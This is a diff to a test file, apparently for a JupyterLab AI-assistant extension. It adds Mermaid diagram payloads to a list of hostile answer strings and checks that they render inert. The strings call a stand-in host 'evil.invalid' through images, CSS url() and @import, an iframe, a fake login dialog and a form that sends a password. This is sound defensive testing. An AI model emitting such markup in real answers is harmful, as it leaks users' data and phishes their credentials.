@@ -22,6 +22,16 @@ import { runRecord } from '../fixtures/run-record';
 
 const EVIL = 'https://evil.invalid';
 
+const FLOW = `flowchart TD\n  A --> B`;
+
+/** Diagrams, which JupyterLab draws from fences of Markdown: each fetches something when it is drawn. */
+const DIAGRAMS = [
+  `\`\`\`mermaid\n${FLOW}\n  B@{ img: "${EVIL}/shape.png?q=secret", label: "B" }\n\`\`\``,
+  `\`\`\`{.mermaid}\n${FLOW}\n  B["<img src='${EVIL}/label.png'>"]\n\`\`\``,
+  `~~~Mermaid\n%%{init: {"themeCSS": ".node { background: url(${EVIL}/theme.png) }"}}%%\n${FLOW}\n~~~`,
+  `- In a list:\n\n  \`\`\`mermaid\n  flowchart TD\n  A --> B@{ img: "${EVIL}/list.png" }\n  \`\`\``
+].join('\n\n');
+
 /** What an attacker would like an answer to do, each in a paragraph of its own. */
 const HOSTILE = [
   `![x](${EVIL}/image.png?q=secret)`,
@@ -35,7 +45,8 @@ const HOSTILE = [
   '<div class="jp-Dialog"><div class="jp-Dialog-content">Log in again<button>OK</button></div></div>',
   `<style>@import url(${EVIL}/style.css)</style>`,
   `<iframe src="${EVIL}/frame.html"></iframe>`,
-  `<form action="${EVIL}/form"><input name="password"></form>`
+  `<form action="${EVIL}/form"><input name="password"></form>`,
+  DIAGRAMS
 ].join('\n\n');
 
 /** What must not be in a card: whatever loads, runs, looks like JupyterLab's own or can be clicked. */
@@ -85,7 +96,7 @@ async function expectInert(
   ).toBeUndefined();
 }
 
-test('a hostile answer is inert while it streams, at its end and after a reload [H12, H13, H14]', async ({
+test('a hostile answer is inert while it streams, at its end and after a reload [H12, H13, H14, S1]', async ({
   openNotebook,
   model,
   page
